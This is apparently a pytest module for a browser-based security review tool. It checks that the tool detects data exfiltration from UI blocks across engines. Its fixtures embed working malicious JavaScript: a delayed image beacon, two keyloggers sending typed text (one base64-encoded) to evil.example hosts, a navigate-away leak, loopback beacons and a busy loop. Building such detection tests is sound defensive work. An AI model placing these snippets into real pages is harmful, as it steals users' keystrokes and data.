"""The in-browser layer of `review` in real engines.

One run of the layer for the whole module (every selected engine at once, pages in
parallel, as `review` runs it): the corpus blocks that carry per-engine ``browser``
expectations (fixtures/review/) followed by a few blocks of this file; of those, the ones the
selected cases read, in their engines (``-k``). The tests read that run:
one case per (corpus block, engine), a benign block gives no high finding, an image and an
on-click exfiltration are confirmed with path and host, a delayed one within the settle
window too, a busy loop hits the time limit while the blocks after it still run. That run takes
no screenshots (as `review` with a SARIF or text report); a review of its own takes them in light
and dark. Plus the canary decoding, which needs no browser.
"""

from __future__ import annotations

import base64
import json
import urllib.parse
import warnings

import pytest
from selection import selected_cases

from flowui_sandbox.sandbox.engines import ENGINE_NAMES, find_engines
from flowui_sandbox.sandbox.plugin.fixtures import in_ci, selected_engines
from flowui_sandbox.sandbox.review.browser import run_browser_layer
from flowui_sandbox.sandbox.review.browser.canaries import Canaries
from flowui_sandbox.sandbox.review.corpus import LOAD_DEPENDENT, load_corpus, score
from flowui_sandbox.sandbox.review.model import BlockInput

#: The corpus blocks with per-engine browser expectations (fixtures/review/*.json, "browser").
#: The module's one run reviews every corpus block and this file's own in three engines (some several
# times: the differential review); on a loaded 2-core machine that takes minutes, and pytest-timeout
# counts it in the first test.
pytestmark = pytest.mark.timeout(2400)

CASES = [c for c in load_corpus() if any(e in c.expected for e in ENGINE_NAMES)]

#: Blocks of this file, run after the corpus in the same run (file name -> source).
EXTRA = {
    "delayed_600ms.html": "<p data-bind=\"order.total\"></p>\n<script>\n  setTimeout(() => {\n"
                          "    new Image().src = 'https://late.evil.example/d?t=' + flowUi.get('order.total');\n  }, 600);\n</script>\n",
    "after_busy.html": '<p>still <b data-bind="customer.name"></b></p>\n<img src="https://cdn.example.com/logo.png" alt="">\n',
    "typed_keylogger.html": "<input id=q>\n<script>\n  document.getElementById('q').addEventListener('input', (e) => {\n"
                            "    new Image().src = 'https://keys.evil.example/k?v=' + btoa(e.target.value);\n  });\n</script>\n",
    # The host module removes a frame that navigated away: a navigation, not a hang.
    "navigates_away.html": "<p data-bind=\"order.total\"></p>\n<script>\n"
                           "  location.href = 'https://away.evil.example/land?t=' + flowUi.get('order.total');\n</script>\n",
    # Requests to this machine, the address built at run time: each engine's proxy bypass for
    # loopback is off, so they reach the review's proxy like any other.
    "to_this_machine.html": "<p data-bind=\"order.total\"></p>\n<script>\n  const t = flowUi.get('order.total');\n"
                            "  const me = [127, 0, 0, 1].join('.');\n"
                            "  for (const host of [me + ':8443', 'local' + 'host:8444', '[::1]:9443', '127.7.7.7'])\n"
                            "    new Image().src = 'https://' + host + '/c?t=' + t;\n</script>\n",
    # Reads keys, not the field's value: only real key events give it the typed text.
    "keydown_logger.html": "<textarea id=t></textarea>\n<script>\n  let keys = '';\n"
                           "  document.addEventListener('keydown', (e) => {\n    if (e.key.length === 1) keys += e.key;\n"
                           "    else if (e.key === 'Enter') new Image().src = 'https://kd.evil.example/k?' + keys;\n  });\n</script>\n",
}
BUSY_THEN = ["busy_then.html", "after_busy.html"]  # a busy loop started by the page, then a plain block
BENIGN = [c.name for c in CASES if c.name.startswith("benign") or c.name == "starter"]
#: The blocks each test of this module reads (test_corpus_block: its case's block).
READS = {
    "test_benign_blocks_give_no_high_finding": BENIGN,
    "test_image_exfiltration_is_confirmed_with_path_and_host": ["exfil_image"],
    "test_on_click_exfiltration_is_found_by_clicking": ["exfil_on_click_handler"],
    "test_delayed_exfiltration_within_the_settle_window": ["delayed_600ms.html"],
    "test_typed_text_is_followed_through_base64": ["typed_keylogger.html"],
    "test_typing_is_key_by_key": ["keydown_logger.html"],
    "test_a_block_that_navigates_away_is_a_navigation_not_a_hang": ["navigates_away.html"],
    "test_requests_to_this_machine_are_seen": ["to_this_machine.html"],
    "test_a_busy_loop_hits_the_time_limit_and_the_run_goes_on": BUSY_THEN,
    "test_screenshots_in_light_and_dark": [],  # its own review
    "test_bridge_traffic_is_recorded": ["benign_form"],
}


def _selected(request: pytest.FixtureRequest) -> tuple[set[str], set[str]]:
    """The blocks and engines this session's selected cases of this module read (after ``-k``):
    `-k 'exfil_image and webkit'` reviews one block in one engine, not the corpus in three."""
    files: set[str] = set()
    engines: set[str] = set()
    for name, params in selected_cases(request.session, request.module):
        engines.add(params["flowui_engine"])
        files.update([params["case"].name] if name == "test_corpus_block" else READS[name])
    return files, engines


@pytest.fixture(scope="module")
def run(request):
    files, engines = _selected(request)
    names = [n for n in selected_engines(request.config) if n in engines]
    installed = [n for n in names if n in {e.name for e in find_engines()}]
    if not installed:
        (pytest.fail if in_ci() else pytest.skip)("no engine installed")  # with CI=true every engine is required
    blocks = [BlockInput(file=c.name, source=c.source, fields=c.fields, state=c.state) for c in CASES]
    blocks += [BlockInput(file=name, source=source, fields=["order.total"] if "total" in source else [],
                          state={"customer": {"name": "Ann"}, "order": {"total": "12.50"}}) for name, source in EXTRA.items()]
    blocks.insert(len(CASES), BlockInput(file="busy_then.html", source="<script>setTimeout(() => { for (;;) {} }, 50);</script>"))
    results = run_browser_layer([b for b in blocks if b.file in files], installed, time_limit=15, screenshots=False)
    return {r.file: r for r in results}


def by_engine(result, engine: str):
    return [f for f in result.findings if engine in f.engines]


def test_every_corpus_block_has_browser_expectations():
    assert len(CASES) == len(load_corpus()) >= 40
    missing = [(c.name, e) for c in CASES for e in ENGINE_NAMES if e not in c.expected]
    assert not missing


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_corpus_block(flowui_engine, run, case):
    """One case per (corpus block, engine): its findings are exactly what it expects there (precision
    and recall 1.00 per engine is every case passing; `-k 'exfil_image and webkit'` reads one).

    The module's batch reviews every block in three engines at once, three pages each, on a 2-core
    machine; there a review is a few seconds of one simulated user and a loaded machine can cost a
    block its timing (a click that lands after the settle window, an attribution run that differs).
    A case that does not match in the batch is reviewed once more, alone in its engine, and that
    review decides; the retry is reported as a warning with what the batch saw, so a block that
    needs it shows in every run's summary."""
    engine = flowui_engine.name
    expected = case.expected[engine]
    result = score(case.name, by_engine(run[case.name], engine), expected, tolerate=LOAD_DEPENDENT)
    if result.misses or result.extras:
        batch = "; ".join(result.misses + result.extras)
        acted = [f.evidence["actions"] for f in by_engine(run[case.name], engine) if f.rule == "browser.inconsistent" and "actions" in f.evidence]
        if acted:  # whether the simulated user did the same in both same-data runs
            batch += f"; the user's actions in the two runs with the same data: {acted[0]}"
        block = BlockInput(file=case.name, source=case.source, fields=case.fields, state=case.state)
        alone = run_browser_layer([block], [engine], time_limit=15, screenshots=False)[0]
        result = score(case.name, by_engine(alone, engine), expected, tolerate=LOAD_DEPENDENT)
        verdict = "matched" if not (result.misses or result.extras) else "did not match either"
        warnings.warn(f"{case.name} in {engine}: the batch review did not match ({batch}); reviewed alone, it {verdict}",
                      stacklevel=1)
    assert not result.misses and not result.extras, "\n".join(["missed:", *result.misses, "unexpected:", *result.extras])


def test_benign_blocks_give_no_high_finding(flowui_engine, run):
    assert len(BENIGN) >= 4
    high = [(n, f.rule, f.message) for n in BENIGN for f in by_engine(run[n], flowui_engine.name)
            if f.severity == "high" and f.rule not in LOAD_DEPENDENT]
    assert not high


def test_image_exfiltration_is_confirmed_with_path_and_host(flowui_engine, run):
    found = [f for f in by_engine(run["exfil_image"], flowui_engine.name) if f.rule == "exfil.state-to-url"]
    assert [(f.paths, f.hosts) for f in found] == [(["order.total"], ["collect.evil.example"])]
    assert found[0].evidence["confirmed"] is True
    source = next(c.source for c in CASES if c.name == "exfil_image").splitlines()
    line = next(i for i, text in enumerate(source, 1) if "https://collect" in text)
    assert (found[0].line, found[0].column) == (line, source[line - 1].index("https://collect") + 1)  # the URL in the source


def test_on_click_exfiltration_is_found_by_clicking(flowui_engine, run):
    found = [f for f in by_engine(run["exfil_on_click_handler"], flowui_engine.name) if f.rule == "exfil.state-to-url"]
    assert [(f.paths, f.hosts) for f in found] == [(["order.total"], ["click.evil.example"])]


def test_delayed_exfiltration_within_the_settle_window(flowui_engine, run):
    found = [f for f in by_engine(run["delayed_600ms.html"], flowui_engine.name) if f.rule == "exfil.state-to-url"]
    assert [(f.paths, f.hosts) for f in found] == [(["order.total"], ["late.evil.example"])]


def test_typed_text_is_followed_through_base64(flowui_engine, run):
    found = [f for f in by_engine(run["typed_keylogger.html"], flowui_engine.name) if f.rule == "exfil.input-to-url"]
    assert found and found[0].hosts == ["keys.evil.example"] and found[0].evidence["encoding"] == "base64"


def test_typing_is_key_by_key(flowui_engine, run):
    """A keylogger on keydown sees what the review typed: real key events, not a value set at once."""
    found = [f for f in by_engine(run["keydown_logger.html"], flowui_engine.name) if f.rule == "exfil.input-to-url"]
    assert found and found[0].hosts == ["kd.evil.example"], run["keydown_logger.html"].findings


def test_a_block_that_navigates_away_is_a_navigation_not_a_hang(flowui_engine, run):
    result = run["navigates_away.html"]
    assert flowui_engine.name not in result.timed_out
    rules = {(f.rule, tuple(f.paths), tuple(f.hosts)) for f in by_engine(result, flowui_engine.name)}
    assert ("exfil.state-to-url", ("order.total",), ("away.evil.example",)) in rules, rules
    assert "browser.frame-navigated" in {r for r, _, _ in rules}, rules


def test_requests_to_this_machine_are_seen(flowui_engine, run):
    """Loopback addresses and ``localhost`` go through the review's proxy too (each engine bypasses a
    proxy for them unless its driver says otherwise), and are named the viewer's own machine."""
    found = {(tuple(f.hosts), tuple(f.paths)) for f in by_engine(run["to_this_machine.html"], flowui_engine.name)
             if f.rule == "exfil.state-to-url"}
    assert found == {((h,), ("order.total",)) for h in ("127.0.0.1:8443", "localhost:8444", "[::1]:9443", "127.7.7.7")}, found
    private = {(tuple(f.hosts), f.evidence["network"]) for f in by_engine(run["to_this_machine.html"], flowui_engine.name)
               if f.rule == "url.private-network"}
    assert private == {((h,), "this machine") for h in ("127.0.0.1", "localhost", "[::1]", "127.7.7.7")}, private


def test_a_busy_loop_hits_the_time_limit_and_the_run_goes_on(flowui_engine, run):
    busy = run["busy_then.html"]
    assert flowui_engine.name in busy.timed_out
    assert [f.rule for f in by_engine(busy, flowui_engine.name)] == ["browser.timeout"]
    after = run["after_busy.html"]
    assert flowui_engine.name not in after.timed_out and not [e for e in after.errors if e["engine"] == flowui_engine.name]
    assert flowui_engine.name in after.engines and not after.screenshots  # the module's run takes none


def test_screenshots_in_light_and_dark(flowui_engine):
    case = next(c for c in CASES if c.name == "benign_theme")
    block = BlockInput(file=case.name, source=case.source, fields=case.fields, state=case.state)
    shots = run_browser_layer([block], [flowui_engine.name], time_limit=15)[0].screenshots[flowui_engine.name]
    light, dark = (base64.b64decode(shots[k]) for k in ("light", "dark"))
    assert light.startswith(b"\x89PNG") and dark.startswith(b"\x89PNG")
    assert light != dark


def test_bridge_traffic_is_recorded(flowui_engine, run):
    bridge = [b for b in run["benign_form"].bridge if b["engine"] == flowui_engine.name]
    assert {b["type"] for b in bridge} == {"send", "setValue"}
    send = next(b for b in bridge if b["type"] == "send")
    assert send["action"] == "subscribe" and send["payload"] == {"agree": "boolean"}


# ------------------------------------------------------------------------ no browser needed


def test_canaries_keep_types_and_are_found_after_encoding():
    canaries = Canaries()
    state = canaries.state({"customer": {"name": "Ann", "id": 4402913, "age": 41, "vip": True}, "items": [{"price": 2.5}]},
                           ["customer", "items", "order.total"])
    assert isinstance(state["customer"]["id"], int) and state["customer"]["vip"] is True
    assert isinstance(state["items"][0]["price"], float) and isinstance(state["order"]["total"], str)
    encoded = base64.urlsafe_b64encode(json.dumps(state).encode()).decode()
    found = canaries.find("https://x.example/?d=" + urllib.parse.quote(encoded))
    # The age (two digits) and the price (one and a tenth) are too short to name by their digits:
    # the differential review's (tests/test_review_canaries.py).
    assert set(found) == {"customer.name", "customer.id", "order.total"}
    assert set(found.values()) == {"base64"}
    assert canaries.find(f"https://x.example/{state['customer']['name']}.gif") == {"customer.name": "as sent"}
    # A number is recognised only as a whole run of digits.
    assert canaries.find(f"https://x.example/?n=1{state['customer']['id']}") == {}
